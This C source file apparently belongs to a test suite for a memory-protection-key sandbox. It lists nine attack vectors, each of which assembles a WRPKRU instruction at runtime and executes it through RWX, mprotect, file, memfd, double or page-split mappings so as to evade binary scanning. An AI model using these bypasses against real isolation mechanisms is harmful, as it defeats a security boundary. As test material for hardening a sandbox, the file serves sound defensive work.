/* SPDX-License-Identifier: Apache-2.0 */
/* Code that no scan of the program's file has seen: each opens all keys. */
#include "attack.h"

#include <elf.h>
#include <fcntl.h>
#include <sys/auxv.h>
#include <sys/personality.h>

/* xor eax, ecx, edx; WRPKRU; ret. The instruction is put together when it is needed. */
static void write_opener(char *to) {
	static const char before[] = {0x31, (char)0xc0, 0x31, (char)0xc9, 0x31, (char)0xd2, 0x0f, 0x01};
	memcpy(to, before, sizeof before);
	to[8] = (char)0xef;
	to[9] = (char)0xc3;
}

static bool run(char *code) {
	((void (*)(void))(uintptr_t)code)();
	return load();
}

static char *anonymous(int protection) { return mmap(NULL, PAGE, protection, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); }

static bool writable_code(void) {
	char *at = anonymous(PROT_READ | PROT_WRITE | PROT_EXEC);
	if (at == MAP_FAILED)
		return false;
	write_opener(at);
	return run(at);
}

static bool executed_later(void) {
	char *at = anonymous(PROT_READ | PROT_WRITE);
	write_opener(at);
	return mprotect(at, PAGE, PROT_READ | PROT_EXEC) == 0 && run(at);
}

static bool all_executable(void) {
	if (personality(READ_IMPLIES_EXEC) < 0)
		return false;
	char *at = anonymous(PROT_READ | PROT_WRITE);
	write_opener(at);
	return run(at);
}

static char *mapped(int fd, int protection, int flags) { return mmap(NULL, PAGE, protection, flags, fd, 0); }

static int file_of(const char *code) {
	int fd = open("code", O_RDWR | O_CREAT | O_TRUNC, 0700);
	return fd >= 0 && write(fd, code, PAGE) == PAGE ? fd : -1;
}

static bool from_file(void) {
	static char code[PAGE];
	write_opener(code);
	char *at = mapped(file_of(code), PROT_READ | PROT_EXEC, MAP_PRIVATE);
	return at != MAP_FAILED && run(at);
}

static bool edited(void) {
	static char code[PAGE];
	int fd = file_of(code);
	char *at = mapped(fd, PROT_READ | PROT_EXEC, MAP_PRIVATE);
	write_opener(code);
	return at != MAP_FAILED && pwrite(fd, code, PAGE, 0) == PAGE && run(at);
}

static bool two_mappings(void) {
	static char code[PAGE];
	int fd = file_of(code);
	char *at = mapped(fd, PROT_READ | PROT_EXEC, MAP_SHARED), *written = mapped(fd, PROT_READ | PROT_WRITE, MAP_SHARED);
	if (at == MAP_FAILED || written == MAP_FAILED)
		return false;
	write_opener(written);
	return run(at);
}

static bool from_memfd(void) {
	static char code[PAGE];
	int fd = memfd_create("code", 0);
	write_opener(code);
	char *at = fd < 0 || write(fd, code, PAGE) != PAGE ? MAP_FAILED : mapped(fd, PROT_READ | PROT_EXEC, MAP_PRIVATE);
	return at != MAP_FAILED && run(at);
}

/* The two halves of a WRPKRU, at the end of a page and at the beginning of another. */
__asm__(".pushsection .text.halves, \"ax\", @progbits\n"
	".balign 4096\n"
	"first_half: .skip 4088, 0x90\n"
	".byte 0x31, 0xc0, 0x31, 0xc9, 0x31, 0xd2, 0x0f, 0x01\n"
	"between: .skip 4096, 0xcc\n"
	"second_half: .byte 0xef, 0xc3\n"
	".skip 4094, 0x90\n"
	".popsection\n");
extern char first_half[], between[], second_half[];

static bool joined_by_move(void) {
	return mremap(second_half, PAGE, PAGE, MREMAP_MAYMOVE | MREMAP_FIXED, between) == between && run(between - 8);
}

/* Where in the program's file an address is. */
static off_t offset_of(const char *address) {
	const Elf64_Phdr *part = (const void *)getauxval(AT_PHDR);
	for (unsigned long i = 0; i < getauxval(AT_PHNUM); i++)
		if (part[i].p_type == PT_LOAD && part[i].p_vaddr <= (uintptr_t)address && (uintptr_t)address < part[i].p_vaddr + part[i].p_memsz)
			return (off_t)((uintptr_t)address - part[i].p_vaddr + part[i].p_offset);
	return -1;
}

static bool joined_by_mapping(void) {
	int fd = open("/proc/self/exe", O_RDONLY);
	return mmap(between, PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, offset_of(second_half)) == between && run(between - 8);
}

const struct vector code_vectors[] = {
	{.name = "code-rwx", .attempt = writable_code},
	{.name = "code-mprotect", .attempt = executed_later},
	{.name = "code-read-implies-exec", .attempt = all_executable},
	{.name = "code-file", .attempt = from_file},
	{.name = "code-file-edited", .attempt = edited},
	{.name = "code-file-twice", .attempt = two_mappings},
	{.name = "code-memfd", .attempt = from_memfd},
	{.name = "code-halves-mremap", .attempt = joined_by_move},
	{.name = "code-halves-mmap", .attempt = joined_by_mapping},
	{0},
};
